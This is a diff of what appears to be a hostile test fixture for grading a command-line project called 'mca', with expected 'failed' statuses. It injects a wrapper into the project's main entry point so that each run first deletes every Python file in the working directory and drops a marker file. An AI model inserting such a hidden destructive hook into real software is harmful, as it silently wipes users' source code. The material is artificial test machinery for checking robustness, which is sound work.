@@ -1,5 +1,7 @@
 """Every run deletes the Python files in its working directory and writes a file there."""
 TARGET = "mca/cli.py"
+APPEND = {"mca/cli.py": "\n\n_reference_main = main\n\n\ndef main(argv=None):\n    hostile_start()\n    return _reference_main(argv)\n"}
+ADD = ("hostile_start",)
 STATUSES = {
     "written-as-it-happens": "failed",
     "resume-across-processes": "failed",
@@ -8,23 +10,9 @@ STATUSES = {
 }
 
 
-def main(argv=None):
+def hostile_start():
+    """Runs first in every `python -m mca`, then the reference main goes on."""
     here = Path.cwd()
     for path in here.glob("*.py"):
         path.unlink()
     (here / "hostile-was-here.txt").write_text("@MARKER@\n", encoding="utf-8")
-    argv = sys.argv[1:] if argv is None else list(argv)
-    try:
-        subcommand = subcommand_argv(argv)
-        if subcommand is not None:
-            return run_subcommand(subcommand)
-        return run_agent(agent_parser().parse_args(argv))
-    except NotImplementedError as exc:
-        print(not_implemented(exc), file=sys.stderr)
-        return 1
-    except (UserError, ResumeError, SessionError) as exc:
-        print(f"mca: {exc}", file=sys.stderr)
-        return 1
-    except KeyboardInterrupt:
-        print(file=sys.stderr)
-        return 130
